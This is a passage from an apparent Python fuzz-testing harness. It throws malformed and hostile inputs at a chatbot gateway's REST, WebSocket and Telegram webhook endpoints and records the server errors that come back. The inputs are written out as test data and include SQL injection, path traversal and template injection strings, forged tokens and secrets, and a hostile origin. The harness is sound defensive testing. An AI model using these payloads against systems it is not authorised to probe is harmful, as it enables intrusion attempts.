        frame_text({"type": "hello", "conversation_id": 12345678, "token": 456}),
        frame_text({"type": "hello", "conversation_id": ["a"], "token": {"a": 1}}),
        frame_text({"type": "HELLO", "conversation_id": CID, "token": TOKEN}),
        frame_text({"type": ["hello"], "conversation_id": CID, "token": TOKEN}),
        frame_text({"type": "hello", "conversation_id": CID, "token": TOKEN + " "}),
        frame_text({"type": "hello", "conversation_id": hostile_short(rng), "token": "x"}),
        frame_text({"type": "hello", "conversation_id": CID, "token": hostile_short(rng)}),
        frame_text({"type": "hello", "conversation_id": CID, "token": "\ud800"}),
        frame_text({"type": "hello", "conversation_id": "\udfff" * 8, "token": TOKEN}),
        frame_text({"type": "hello", "conversation_id": CID, "token": "t" * 20_000}),
        frame_text({"type": "message", "text": "hi"}),
        "[]",
        '"hello"',
        "null",
        "",
        "{",
        deep(rng.choice([500, 5000])),
        b'{"type": "hello"}',
        frame_text({"type": "hello", "conversation_id": CID, "token": TOKEN, "x": "a" * 17_000}),
    ]
    first = rng.choice(hellos)
    later: tuple[str | bytes, ...] = ()
    if rng.random() < 0.3:
        later = (frame_text({"type": "message", "text": "after a bad hello"}),)
    return WsCase("bad_hello", (first, *later), conversation=True)


def ws_binary(rng: random.Random) -> Case:
    frames: tuple[str | bytes, ...] = (
        rng.choice(
            [
                b"\x00\x01\x02",
                b'{"type":"ping"}',
                bytes(rng.randrange(256) for _ in range(100)),
                b"",
            ]
        ),
    )
    if rng.random() < 0.4:
        return WsCase("binary_first_frame", frames, conversation=True)
    return WsCase("binary_after_hello", frames, valid_hello=True, conversation=True)


def ws_oversized(rng: random.Random) -> Case:
    size = rng.choice([MAX_FRAME_BYTES + 1, 20_000, 100_000, 1_000_000])
    frame = frame_text({"type": "message", "text": "a" * size})
    if rng.random() < 0.3:
        return WsCase(
            f"oversized_hello_{size}",
            (frame_text({"type": "hello", "pad": "a" * size}),),
            conversation=True,
        )
    return WsCase(f"oversized_frame_{size}", (frame,), valid_hello=True, conversation=True)


def ws_invalid_json(rng: random.Random) -> Case:
    frames = rng.choice(
        [
            "not json",
            "{",
            "",
            " ",
            "[1, 2]",
            '"str"',
            "42",
            "null",
            "NaN",
            '{"type": "message", "text": NaN}',
            '{"type": "message", "text": "\\ud800"}',
            '{"type": "message", "text": "\\u12"}',
            deep(rng.choice([100, 900, 2000, 5000])),
            deep(rng.choice([900, 5000]), "{"),
            '{"type": "message", "text": ' + deep(3000) + "}",
        ]
    )
    return WsCase("invalid_json_frame", (frames,), valid_hello=True, conversation=True)


def ws_hostile_message(rng: random.Random) -> Case:
    body: dict[str, Any] = {"type": "message", "text": hostile_text(rng), **optional_fields(rng)}
    roll = rng.random()
    if roll < 0.1:
        body["conversation_id"] = hostile_short(rng)
    elif roll < 0.2:
        body[rng.choice(["__proto__", "token", "mode", "x"])] = rng.choice([1, None, "human"])
    elif roll < 0.3:
        body["text"] = rng.choice([123, None, ["a"], {"a": 1}, True])
    elif roll < 0.4:
        body["client_message_id"] = rng.choice([f"dup-{rng.randrange(3)}", "", "x" * 129, 5])
    elif roll < 0.45:
        body["text"] = "a" * (MAX_MESSAGE_CHARS + 1)
    elif roll < 0.5:
        body[rng.choice(["language", "locale", "timezone"])] = hostile_short(rng)
    count = 1 if rng.random() < 0.8 else rng.randrange(2, 4)
    frames = tuple(frame_text(body) for _ in range(count))
    return WsCase("hostile_message_frame", frames, valid_hello=True, conversation=True)


def ws_unknown_types(rng: random.Random) -> Case:
    frames = [
        {"type": "admin"},
        {"type": None},
        {"type": ["message"]},
        {},
        {"type": "hello", "conversation_id": CID, "token": TOKEN},
        {"type": "ready"},
        {"type": "result", "result": {}},
        {"type": "typing"},
        {"type": "ping", "x": "y" * 100},
        {"type": "PING"},
        {"type": "message\x00"},
        {"type": 1},
    ]
    chosen = tuple(frame_text(rng.choice(frames)) for _ in range(rng.randrange(1, 4)))
    return WsCase("unknown_frame_type", chosen, valid_hello=True, conversation=True)


def ws_wrong_tokens(rng: random.Random) -> Case:
    token = rng.choice(
        [
            TOKEN + "x",
            "x" + TOKEN,
            TOKEN + TOKEN,
            "",
            " ",
            "x" * 43,
            "Bearer " + TOKEN,
            " " + TOKEN,
            TOKEN + "\n",
            "A" * 257,
        ]
    )
    cid = rng.choice([CID, CID + "x", CID.upper(), "x" * 22])
    hello = frame_text({"type": "hello", "conversation_id": cid, "token": token})
    return WsCase("wrong_token", (hello,), conversation=True)


def ws_many_frames(rng: random.Random) -> Case:
    pool: list[str | bytes] = [
        frame_text({"type": "ping"}),
        "garbage",
        frame_text({"type": "nope"}),
        b"\x00",
        frame_text({"type": "message", "text": ""}),
        frame_text({"type": "message", "text": 5}),
        "[]",
    ]
    frames = [rng.choice(pool) for _ in range(rng.randrange(20, 120))]
    for _ in range(rng.randrange(0, 3)):
        frames.insert(
            rng.randrange(len(frames)),
            frame_text({"type": "message", "text": hostile_text(rng, surrogates=False)}),
        )
    return WsCase("many_frames_fast", tuple(frames), valid_hello=True, conversation=True)


def ws_origin(rng: random.Random) -> Case:
    origin = rng.choice(["https://evil.example", "null", "http://127.0.0.1", "file://"])
    return WsCase("origin", (), valid_hello=True, conversation=True, origin=origin)


def ws_drop(rng: random.Random) -> Case:
    frames: tuple[str | bytes, ...] = rng.choice(
        [
            (),
            ("{",),
            (frame_text({"type": "message", "text": "are you there?"}),),
            (
                frame_text({"type": "message", "text": hostile_text(rng, surrogates=False)}),
                frame_text({"type": "ping"}),
            ),
        ]
    )
    valid = bool(frames) or rng.random() < 0.5
    return WsCase("drop_mid_conversation", frames, valid_hello=valid, conversation=True, drop=True)


WS_MAKERS: list[tuple[Maker, int]] = [
    (ws_bad_hello, 3),
    (ws_binary, 1),
    (ws_oversized, 1),
    (ws_invalid_json, 2),
    (ws_hostile_message, 4),
    (ws_unknown_types, 1),
    (ws_wrong_tokens, 2),
    (ws_many_frames, 1),
    (ws_origin, 1),
    (ws_drop, 2),
]


# --- Telegram makers -------------------------------------------------------------------

SECRET_HEADER = "x-telegram-bot-api-secret-token"


def tg_user(rng: random.Random) -> int:
    return 7_000_000 + rng.randrange(400)


def tg_message(rng: random.Random, text: str | None, **extra: Any) -> dict[str, Any]:
    user = extra.pop("user_id", tg_user(rng))
    message: dict[str, Any] = {
        "message_id": rng.randrange(1, 10**6),
        "date": 1_790_000_000 + rng.randrange(10**6),
        "chat": {"id": user, "type": "private", "first_name": "Visitor"},
        "from": {
            "id": user,
            "is_bot": False,
            "first_name": "Visitor",
            "language_code": rng.choice(["en", "vi", "ko", "zz", "", "en-US"]),
        },
    }
    if text is not None:
        message["text"] = text
        if text.startswith("/"):
            command = text.split()[0] if text.split() else text
            message["entities"] = [{"type": "bot_command", "offset": 0, "length": len(command)}]
    message.update(extra)
    return message


def tg_case(
    rng: random.Random, kind: str, body: bytes, secret: str, *, header: bytes | None = None
) -> HttpCase:
    headers: tuple[tuple[str, bytes], ...] = (
        JSON,
        (SECRET_HEADER, secret.encode() if header is None else header),
    )
    return HttpCase("telegram", kind, "POST", "/telegram/webhook", headers, body)


def update(rng: random.Random, **content: Any) -> dict[str, Any]:
    return {"update_id": rng.randrange(10**6, 2 * 10**9), **content}


def tg_wrong_secret(rng: random.Random, secret: str) -> Case:
    header = rng.choice(
        [
            b"",
            b"wrong",
            secret.encode() + b"x",
            secret.upper().encode(),
            secret[:-1].encode(),
            b"\xff\xfe" + secret.encode(),
            b"s" * 10_000,
            secret.encode() + b"\t" + secret.encode(),
        ]
    )
    body = dumps(update(rng, message=tg_message(rng, "hello")))
    if rng.random() < 0.3:
        return HttpCase("telegram", "missing_secret", "POST", "/telegram/webhook", (JSON,), body)
    return tg_case(rng, "wrong_secret", body, secret, header=header)


def tg_non_json(rng: random.Random, secret: str) -> Case:
    body = rng.choice(
        [
            b"",
            b"not json",
            b"null",
            b"[]",
            b"[1, 2]",
            b"123",
            b'"update"',
            b"{",
            b'{"update_id": NaN}',
            b'{"update_id": 1, "message": {"text": "\xc3\x28"}}',
            bytes(rng.randrange(256) for _ in range(rng.randrange(1, 200))),
            deep(rng.choice([500, 5000, 10_000])).encode(),
            ('{"update_id": 5, "message": ' + deep(rng.choice([900, 5000]), "{") + "}").encode(),
        ]
    )
    return tg_case(rng, "non_json", body, secret)


def tg_missing_fields(rng: random.Random, secret: str) -> Case:
    message = tg_message(rng, "hello there")
    missing = rng.choice(["chat", "from", "date", "message_id", "text"])
    message.pop(missing, None)
    choices: list[Any] = [
        {},
        {"update_id": rng.randrange(10**6)},
        update(rng, message={}),
        update(rng, message=message),
        {"message": tg_message(rng, "no update id")},
        update(rng, callback_query={"data": "lang:en"}),
        update(rng, callback_query={"id": "1", "from": {"id": 1}, "chat_instance": "c"}),
        update(rng, message={"chat": {"id": 5}, "text": "x"}),
    ]
    return tg_case(rng, "missing_fields", dumps(rng.choice(choices)), secret)


def tg_wrong_types(rng: random.Random, secret: str) -> Case:
    message = tg_message(rng, "hello there")
    key, value = rng.choice(
        [
            ("update_id", "abc"),
            ("update_id", 1.5),
            ("update_id", None),
            ("update_id", -5),
            ("update_id", 2**80),
            ("message", "hello"),
            ("message", [1, 2]),
            ("message", 42),
            ("message", None),
            ("chat", {"id": 2**70, "type": "private"}),
            ("chat", {"id": "abc", "type": "private"}),
            ("chat", {"id": 1.5, "type": "private"}),
            ("chat", "x"),
            ("chat", None),
            ("date", "yesterday"),
            ("date", 10**20),
            ("date", -(10**15)),
            ("from", [1]),
            ("from", {"id": "me", "is_bot": "no", "first_name": 5}),
            ("text", 12345),
            ("text", ["a"]),
            ("text", {"a": 1}),
            ("entities", "nope"),
            ("entities", [1, 2]),
            ("entities", [{"type": 5, "offset": "a", "length": None}]),
            ("reply_to_message", "x"),
            ("message_id", "m"),
        ]
    )
    if key in {"update_id", "message"}:
        body: dict[str, Any] = update(rng, message=message)
        body[key] = value
    else:
        message[key] = value
        body = update(rng, message=message)
    return tg_case(rng, f"wrong_type_{key}", dumps(body), secret)


def tg_long_text(rng: random.Random, secret: str) -> Case:
    size = rng.choice([MAX_MESSAGE_CHARS + 1, 5000, 20_000])
    text = (rng.choice(["a", "😀", "ư ", "/status "]) * size)[:size]
    return tg_case(
        rng, f"long_text_{size}", dumps(update(rng, message=tg_message(rng, text))), secret
    )


def tg_commands(rng: random.Random, secret: str) -> Case:
    text = rng.choice(
        [
            "/status ../../x",
            "/status " + "A" * 1000,
            "/status",
            "/status ' OR 1=1 --",
            "/status \u202eX\ud800",
            "/status PR-0000-0000",
            "/language zz",
            "/language",
            "/start " + "x" * 300,
            "/start",
            "/help@other_bot",
            "/help@visitor_desk_bot extra",
            "/forget",
            "/human",
            "/unknown_command",
            "/",
            "/STATUS x",
            "/status\x00x",
            "/status {{7*7}} ${7*7}",
        ]
    )
    return tg_case(rng, "command", dumps(update(rng, message=tg_message(rng, text))), secret)


def tg_callbacks(rng: random.Random, secret: str) -> Case:
    user = tg_user(rng)
    data = rng.choice(
        [
            "lang:zz",
            "lang:en",
            "lang:vi",
            "lang:",
            "lang:" + "x" * 100,
            "lang:EN",
            hostile_text(rng),
            "x" * 65,
            None,
            "",
            "/restart",
            '/change_language{"language":"xx"}',
        ]
    )
    query: dict[str, Any] = {
        "id": str(rng.randrange(10**9)),
        "from": {"id": user, "is_bot": False, "first_name": "V"},
        "chat_instance": "ci",
        "message": tg_message(rng, "menu", user_id=user),
    }
    if data is not None:
        query["data"] = data
    roll = rng.random()
    if roll < 0.1:
        query.pop("message")
        query["inline_message_id"] = "inline-1"
    elif roll < 0.15:
        query["message"]["chat"] = {"id": -(10**12) - rng.randrange(10**6), "type": "supergroup"}
    elif roll < 0.2:
        query["game_short_name"] = "game"
    return tg_case(rng, "callback_query", dumps(update(rng, callback_query=query)), secret)


def tg_other_updates(rng: random.Random, secret: str) -> Case:
    message = tg_message(rng, "edited text")
    kind, content = rng.choice(
        [
            ("edited_message", message),
            ("channel_post", {**message, "chat": {"id": -100123, "type": "channel"}}),
            ("edited_channel_post", message),
            ("inline_query", {"id": "1", "from": message["from"], "query": "x", "offset": ""}),
            ("poll", {"id": "p", "question": "q", "options": [], "total_voter_count": 0}),
            ("my_chat_member", {"chat": message["chat"], "from": message["from"], "date": 1}),
            ("unknown_update_type", {"x": 1}),
            ("message_reaction", {"chat": message["chat"], "message_id": 1, "date": 1}),
            ("business_message", message),
            ("chat_join_request", {"chat": message["chat"], "from": message["from"], "date": 1}),
        ]
    )
    return tg_case(rng, f"update_{kind}", dumps(update(rng, **{kind: content})), secret)


def tg_entities(rng: random.Random, secret: str) -> Case:
    text = rng.choice(["/status abc", "hello world", "😀😀 /help", ""])
    entities = rng.choice(
        [
            [{"type": "bot_command", "offset": 500, "length": 99999}],
            [{"type": "bot_command", "offset": -5, "length": 3}],
            [{"type": "bot_command", "offset": 0, "length": 0}],
            [{"type": "bot_command", "offset": 3, "length": 5}],
            [{"type": "url", "offset": 0, "length": 10**9}],
            [{"type": "text_mention", "offset": 0, "length": 2, "user": {"id": 1}}],
            [{"type": "custom_emoji", "offset": 0, "length": 2, "custom_emoji_id": "x"}],
            [{"type": "bot_command", "offset": 0, "length": 2}] * 50,
            [{"type": "made_up", "offset": 1, "length": 1}],
        ]
    )
    message = tg_message(rng, text or None, entities=entities)
    if not text:
        message["caption"] = "caption"
    return tg_case(rng, "entities_outside_text", dumps(update(rng, message=message)), secret)


def tg_hostile_text(rng: random.Random, secret: str) -> Case:
    text = hostile_text(rng)
    message = tg_message(rng, text)
    if rng.random() < 0.2:
        message["from"]["language_code"] = hostile_short(rng)
    return tg_case(rng, "hostile_text", dumps(update(rng, message=message), rng), secret)


def tg_groups(rng: random.Random, secret: str) -> Case:
    chat_type = rng.choice(["group", "supergroup", "channel", "unknown_type", "sender"])
    chat_id = -(10**12) - rng.randrange(10**6) if chat_type != "sender" else tg_user(rng)
    text = rng.choice(["hello", "/status x", "/human", "/forget", hostile_text(rng)])
    message = tg_message(rng, text, chat={"id": chat_id, "type": chat_type, "title": "T"})
    return tg_case(rng, f"chat_{chat_type}", dumps(update(rng, message=message)), secret)


def tg_media(rng: random.Random, secret: str) -> Case:
    key, value = rng.choice(
        [
            ("photo", [{"file_id": "f", "file_unique_id": "u", "width": -1, "height": 10**12}]),
            ("photo", "not a list"),
            ("sticker", {"file_id": "f"}),
            ("document", {"file_id": "f", "file_unique_id": "u", "file_size": 2**70}),
            ("location", {"latitude": 1e308, "longitude": -1e308}),
            ("location", {"latitude": "north", "longitude": None}),
            ("contact", {"phone_number": "' OR 1=1", "first_name": "<b>x</b>"}),
            ("voice", {"file_id": "f", "file_unique_id": "u", "duration": -5}),
        ]
    )
    message = tg_message(rng, None, **{key: value})
    return tg_case(rng, f"media_{key}", dumps(update(rng, message=message)), secret)


def tg_duplicates(rng: random.Random, secret: str) -> Case:
    body = {
        "update_id": 999_000 + rng.randrange(5),
        "message": tg_message(rng, hostile_text(rng, surrogates=False), user_id=7_000_999),
    }
    return tg_case(rng, "duplicate_update_id", dumps(body), secret)


TelegramMaker = Callable[[random.Random, str], Case]
TELEGRAM_MAKERS: list[tuple[TelegramMaker, int]] = [
    (tg_wrong_secret, 2),
    (tg_non_json, 2),
    (tg_missing_fields, 2),
    (tg_wrong_types, 3),
    (tg_long_text, 1),
    (tg_commands, 2),
    (tg_callbacks, 2),
    (tg_other_updates, 1),
    (tg_entities, 1),
    (tg_hostile_text, 4),
    (tg_groups, 1),
    (tg_media, 1),
    (tg_duplicates, 1),
]


def cycle(weighted: Sequence[tuple[Any, int]]) -> list[Any]:
    """Makers repeated by weight: taking them in turn covers every one in a short run."""
    return [maker for maker, weight in weighted for _ in range(weight)]


def api_cases(rng: random.Random, n: int, *, raw: bool = True) -> list[Case]:
    makers = cycle(API_MAKERS) + ([api_raw] if raw else [])
    return [makers[i % len(makers)](rng) for i in range(n)]


def ws_cases(rng: random.Random, n: int) -> list[Case]:
    makers = cycle(WS_MAKERS)
    return [makers[i % len(makers)](rng) for i in range(n)]


def telegram_cases(rng: random.Random, n: int, secret: str = DEFAULT_SECRET) -> list[Case]:
    makers = cycle(TELEGRAM_MAKERS)
    return [makers[i % len(makers)](rng, secret) for i in range(n)]


def generate(
    seed: int, count: int, *, secret: str = DEFAULT_SECRET, raw: bool = True
) -> list[Case]:
    """``count`` cases over the three targets (SHARES), shuffled, the same for the same seed."""
    rng = random.Random(seed)
    n_api = round(count * SHARES["api"])
    n_ws = round(count * SHARES["ws"])
    n_tg = count - n_api - n_ws
    cases = [
        *api_cases(rng, n_api, raw=raw),
        *ws_cases(rng, n_ws),
        *telegram_cases(rng, n_tg, secret),
    ]
    rng.shuffle(cases)
    return cases


def describe(case: Case, limit: int = 300) -> dict[str, Any]:
    """A short, JSON-safe description of an input, for failure examples."""
    if isinstance(case, RawCase):
        return {"raw": repr(case.data[:limit]), "bytes": len(case.data)}
    if isinstance(case, WsCase):
        return {
            "frames": [repr(f[:limit]) for f in case.frames[:5]],
            "frame_count": len(case.frames),
            "valid_hello": case.valid_hello,
            "origin": case.origin,
            "drop": case.drop,
        }
    return {
        "method": case.method,
        "path": case.path[:limit],
        "headers": {k: repr(v[:120]) for k, v in case.headers},
        "body": repr(case.body[:limit]) if case.body is not None else None,
        "body_bytes": len(case.body) if case.body is not None else 0,
    }


# --- results ---------------------------------------------------------------------------


@dataclass
class Tally:
    """Outcomes per target and kind, failures with a few examples each."""

    statuses: dict[str, collections.Counter[str]] = field(
        default_factory=lambda: collections.defaultdict(collections.Counter)
    )
    kinds: dict[str, dict[str, collections.Counter[str]]] = field(
        default_factory=lambda: collections.defaultdict(
            lambda: collections.defaultdict(collections.Counter)
        )
    )
    ws_frames: collections.Counter[str] = field(default_factory=collections.Counter)
    failures: collections.Counter[str] = field(default_factory=collections.Counter)
    examples: list[dict[str, Any]] = field(default_factory=list)
    setup_failures: int = 0
    transport_after_5xx: int = 0  # the request before it on that connection had a 5xx
    done: int = 0

    def record(
        self, case: Case, status: str, failed: bool, detail: str = "", max_examples: int = 3
    ) -> None:
        self.done += 1
        self.statuses[case.target][status] += 1
        self.kinds[case.target][case.kind][status] += 1
        if not failed:
            return
        key = f"{case.target}:{case.kind}:{status}"
        self.failures[key] += 1
        if self.failures[key] <= max_examples and len(self.examples) < 80:
            self.examples.append(
                {
                    "target": case.target,
                    "kind": case.kind,
                    "status": status,
                    "input": describe(case),
                    "response": detail[:600],
                }
            )

    @property
    def failure_count(self) -> int:
        return sum(self.failures.values())


def status_class(status: str) -> str:
    """2xx..5xx for HTTP; for sockets: pong = 2xx, a 4xxx close or 4xx handshake = 4xx, a
    1006/1011-like close = 5xx; anything else (client gave up, raw garbage) = other."""
    if status[:1].isdigit():
        return f"{status[0]}xx"
    if status == "ws:pong":
        return "2xx"
    if status.startswith("ws:http:"):
        return f"{status[8]}xx"
    if status.startswith("ws:close:"):
        code = int(status[9:])
        if code in WS_FAILURE_CODES:
            return "5xx"
        return "4xx" if 4000 <= code < 5000 else "other"
    return "other"


def is_failure_http(status: int) -> bool:
    return status >= 500


# --- runners (against a live gateway) --------------------------------------------------


class Conversation:
    """The worker's own visitor conversation for inputs that need a valid id and token."""

    def __init__(self, client: httpx.AsyncClient, tally: Tally, uses: int = 25) -> None:
        self._client = client
        self._tally = tally
        self._uses = uses
        self._current: tuple[str, str] | None = None
        self._used = 0

    async def get(self) -> tuple[str, str]:
        if self._current is None or self._used >= self._uses:
            self._current = await self._create()
            self._used = 0
        self._used += 1
        return self._current

    def renew(self) -> None:
        self._current = None

    async def _create(self) -> tuple[str, str]:
        for _ in range(3):
            try:
                r = await self._client.post(MESSAGES, json={"text": "Hello, I have a question"})
                if r.status_code == 200:
                    body = r.json()
                    return str(body["conversation_id"]), str(body["token"])
            except httpx.HTTPError:
                pass
            self._tally.setup_failures += 1
            await asyncio.sleep(0.5)
        return "x" * 22, "y" * 43  # every input of this worker then just gets 401s


async def chunks(body: bytes, size: int = 8192) -> AsyncIterator[bytes]:
    for i in range(0, len(body), size):
        yield body[i : i + size]


async def run_http(
    client: httpx.AsyncClient, case: HttpCase, conv: Conversation, tally: Tally, previous: str
) -> str:
    """Sends one case; returns what it got (the worker passes it on as ``previous``, so a
    transport error can name the request before it on the same connection)."""
    cid, token = await conv.get() if case.conversation else ("", "")
    path, headers, body = request_parts(case, cid, token)
    content: bytes | AsyncIterator[bytes] | None = body
    if case.chunked and body is not None:
        content = chunks(body)
    try:
        response = await client.request(case.method, path, headers=headers, content=content)
    except (httpx.LocalProtocolError, httpx.InvalidURL, httpx.UnsupportedProtocol) as exc:
        tally.record(case, f"client_refused:{type(exc).__name__}", False)
        return "client_refused"
    except httpx.HTTPError as exc:
        status = f"transport:{type(exc).__name__}"
        tally.record(case, status, True, f"{exc!r}; the request before it got {previous}")
        if previous.startswith("5"):
            tally.transport_after_5xx += 1
        return status
    finally:
        if case.renews:
            conv.renew()
    status = str(response.status_code)
    tally.record(case, status, is_failure_http(response.status_code), response.text)
    return f"{status} ({case.target}:{case.kind})"


async def run_raw(host: str, port: int, case: RawCase, tally: Tally) -> None:
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
    except (OSError, TimeoutError) as exc:
        tally.record(case, f"transport:{type(exc).__name__}", True, repr(exc))
        return
    data, eof = b"", False
    try:
        writer.write(case.data)
        await writer.drain()
        with contextlib.suppress(TimeoutError):
            while len(data) < 65536:
                chunk = await asyncio.wait_for(reader.read(65536), RAW_WAIT_S)
                if not chunk:
                    eof = True
                    break
                data += chunk
    except OSError:
        eof = True  # a server may reset a connection that sent garbage; what it answered counts
    finally:
        writer.close()
        with contextlib.suppress(OSError):
            await writer.wait_closed()
    if not data and not eof:
        # Neither an answer nor a closed connection: the server holds the socket open.
        tally.record(case, "raw:hang", True, f"no answer within {RAW_WAIT_S:.0f}s, still open")
        return
    finals = [int(m) for m in re.findall(rb"HTTP/1\.[01] (\d{3})", data) if not m.startswith(b"1")]
    if not finals:
        tally.record(case, "raw:closed_without_answer" if not data else "raw:not_http", False)
        return
    status = finals[0]
    tally.record(case, str(status), is_failure_http(status), data.decode("latin-1"))


async def run_ws(
    ws_url: str, case: WsCase, conv: Conversation, tally: Tally, limit_s: float
) -> None:
    cid, token = await conv.get() if case.conversation else ("", "")
    frames = ws_frames(case, cid, token)
    try:
        async with connect(
            ws_url,
            origin=Origin(case.origin) if case.origin is not None else None,
            open_timeout=15,
            close_timeout=5,
            max_size=None,
            ping_interval=None,
        ) as ws:
            status, detail = await ws_exchange(ws, frames, case.drop, limit_s, tally.ws_frames)
    except InvalidStatus as exc:
        code = exc.response.status_code
        tally.record(case, f"ws:http:{code}", code >= 500, repr(exc))
        return
    except (InvalidHandshake, OSError, TimeoutError) as exc:
        tally.record(case, f"ws:connect_error:{type(exc).__name__}", True, repr(exc))
        return
    failed = status in {"ws:timeout"} or any(
        status == f"ws:close:{code}" for code in WS_FAILURE_CODES
    )
    tally.record(case, status, failed, detail)


def close_status(exc: ConnectionClosed) -> tuple[str, str]:
    code = exc.rcvd.code if exc.rcvd is not None else 1006
    reason = exc.rcvd.reason if exc.rcvd is not None else "no close frame"
    return f"ws:close:{code}", reason


async def ws_exchange(
    ws: ClientConnection,
    frames: Sequence[str | bytes],
    drop: bool,
    limit_s: float,
    seen: collections.Counter[str],
) -> tuple[str, str]:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit_s
    try:
        for frame in frames:
            await ws.send(frame)
    except ConnectionClosed as exc:
        return close_status(exc)
    if drop:
        return "ws:dropped_by_client", ""
    owed = pings_after_hello(frames)
    pongs, needed = 0, -1
    last = ""
    while True:
        remaining = deadline - loop.time()
        if remaining <= 0:
            return "ws:timeout", f"last frame: {last[:300]}"
        try:
            raw = await asyncio.wait_for(ws.recv(), remaining)
        except TimeoutError:
            return "ws:timeout", f"last frame: {last[:300]}"
        except ConnectionClosed as exc:
            return close_status(exc)
        last = raw if isinstance(raw, str) else repr(raw)
        try:
            frame = json.loads(raw)
        except ValueError:
            seen["not_json"] += 1
            continue
        kind = str(frame.get("type")) if isinstance(frame, dict) else "not_object"
        if kind == "error":
            kind = f"error:{frame.get('code')}"
        seen[kind] += 1
        if kind == "ready":
            needed = owed + 1
            await ws.send(json.dumps({"type": "ping"}))
        elif kind == "pong":
            pongs += 1
            if pongs >= needed > 0:
                return "ws:pong", ""


async def run_all(
    cases: Sequence[Case],
    base_url: str,
    *,
    concurrency: int,
    limit_s: float,
    progress: Callable[[Tally], None] | None = None,
) -> Tally:
    tally = Tally()
    queue: collections.deque[Case] = collections.deque(cases)
    url = httpx.URL(base_url)
    host, port = url.host, url.port or 80
    ws_url = f"ws://{host}:{port}/api/v1/ws"
    limits = httpx.Limits(max_connections=concurrency * 2, max_keepalive_connections=concurrency)

    async def worker() -> None:
        async with httpx.AsyncClient(base_url=base_url, timeout=limit_s, limits=limits) as client:
            conv = Conversation(client, tally)
            previous = "nothing"
            while queue:
                case = queue.popleft()
                if isinstance(case, HttpCase):
                    previous = await run_http(client, case, conv, tally, previous)
                elif isinstance(case, RawCase):
                    await run_raw(host, port, case, tally)
                else:
                    await run_ws(ws_url, case, conv, tally, limit_s)
                if progress is not None:
                    progress(tally)

    await asyncio.gather(*(worker() for _ in range(concurrency)))
    return tally


# --- post-fuzz checks ------------------------------------------------------------------


async def post_checks(
    base_url: str,
    *,
    rasa: bool,
    standin: BotApiStandIn | None,
    secret: str,
    telegram_wait_s: float,
) -> dict[str, Any]:
    checks: dict[str, Any] = {}
    async with httpx.AsyncClient(base_url=base_url, timeout=120) as client:
        for path in ("/healthz", "/readyz"):
            try:
                r = await client.get(path)
                checks[path] = {"status": r.status_code, "body": r.text[:200]}
            except httpx.HTTPError as exc:
                checks[path] = {"status": None, "body": repr(exc)}
        checks["/healthz"]["ok"] = checks["/healthz"]["status"] == 200
        checks["/readyz"]["ok"] = checks["/readyz"]["status"] == 200 or not rasa
        checks["rest_message"] = await check_rest(client, rasa)
        checks["websocket_message"] = await check_ws(client, base_url)
    if standin is not None:
        checks["telegram_message"] = await check_telegram(
            base_url, standin, secret, telegram_wait_s
        )
    return checks


async def check_rest(client: httpx.AsyncClient, rasa: bool) -> dict[str, Any]:
    try:
        r = await client.post(
            MESSAGES,
            json={"text": "Where can I see lotus fields and water birds?", "language": "en"},
        )
    except httpx.HTTPError as exc:
        return {"ok": False, "error": repr(exc)}
    result: dict[str, Any] = {"status": r.status_code}
    if r.status_code != 200:
        return {**result, "ok": False, "body": r.text[:300]}
    body = r.json()
    replies = [reply["text"][:200] for reply in body.get("replies", [])]
    handoff = body.get("handoff") or {}
    normal = bool(replies) and (not rasa or handoff.get("reason") != "dialogue_unavailable")
    return {
        **result,
        "ok": normal,
        "mode": body.get("mode"),
        "handoff": handoff,
        "replies": replies,
    }


async def check_ws(client: httpx.AsyncClient, base_url: str) -> dict[str, Any]:
    try:
        r = await client.post(MESSAGES, json={"text": "Hello", "language": "en"})
        body = r.json()
        url = httpx.URL(base_url)
        async with connect(f"ws://{url.host}:{url.port}/api/v1/ws", open_timeout=15) as ws:
            hello = {
                "type": "hello",
                "conversation_id": body["conversation_id"],
                "token": body["token"],
            }
            await ws.send(json.dumps(hello))
            frames = [json.loads(await asyncio.wait_for(ws.recv(), 30))]
            await ws.send(
                json.dumps(
                    {
                        "type": "message",
                        "text": "What is an e-visa?",
                        "client_message_id": "post-check",
                    }
                )
            )
            while frames[-1].get("type") != "result":
                frames.append(json.loads(await asyncio.wait_for(ws.recv(), 120)))
        result = frames[-1]["result"]
        return {
            "ok": frames[0] == {"type": "ready"} and bool(result.get("replies")),
            "frames": [f.get("type") for f in frames],
        }
    except Exception as exc:  # the check reports whatever went wrong
        return {"ok": False, "error": repr(exc)[:300]}


async def check_telegram(
    base_url: str, standin: BotApiStandIn, secret: str, wait_s: float
) -> dict[str, Any]:
    chat = 8_123_456
    body = {
        "update_id": 2_100_000_000,
        "message": {
            "message_id": 1,
            "date": int(time.time()),
            "chat": {"id": chat, "type": "private", "first_name": "Check"},
            "from": {"id": chat, "is_bot": False, "first_name": "Check", "language_code": "en"},
            "text": "Where can I see lotus fields and water birds?",
        },
    }
    started = time.monotonic()
    async with httpx.AsyncClient(base_url=base_url, timeout=30) as client:
        try:
            r = await client.post("/telegram/webhook", json=body, headers={SECRET_HEADER: secret})
        except httpx.HTTPError as exc:
            return {"ok": False, "error": repr(exc)}
    if r.status_code != 200:
        return {"ok": False, "status": r.status_code, "body": r.text[:300]}
    while time.monotonic() - started < wait_s:
        texts = [
            s.text
            for s in list(standin.sent)
            if s.method == "sendMessage" and str(s.params.get("chat_id")) == str(chat)
        ]
        if texts:
            return {
                "ok": True,
                "answered_after_s": round(time.monotonic() - started, 1),
                "replies": [t[:200] for t in texts],
            }
        await asyncio.sleep(0.5)
    return {"ok": False, "error": f"no answer within {wait_s:.0f}s"}


# --- the gateway's log -----------------------------------------------------------------

RECORD_START = re.compile(
    r"^(\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d+ [A-Z]+ |(DEBUG|INFO|WARNING|ERROR|CRITICAL):\s+)"
)
EXCEPTION_LINE = re.compile(r"^[A-Za-z_][\w.]*(Error|Exception|Exit|Interrupt)\b")
TIMESTAMP = re.compile(r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d+ ")


def _normalised(line: str) -> str:
    """Ids and numbers out, so one bug is one group."""
    line = re.sub(r"\[conversation=[^\]]*\]", "[conversation=...]", line)
    line = re.sub(r"\\u[0-9a-fA-F]{4}", "\\\\uXXXX", line)
    return re.sub(r"\d+", "N", line)


def log_tracebacks(text: str) -> dict[str, Any]:
    """Tracebacks in a log, grouped by the line that logged them and the final exception."""
    records: list[list[str]] = []
    for line in text.splitlines():
        if RECORD_START.match(line) or not records:
            records.append([line])
        else:
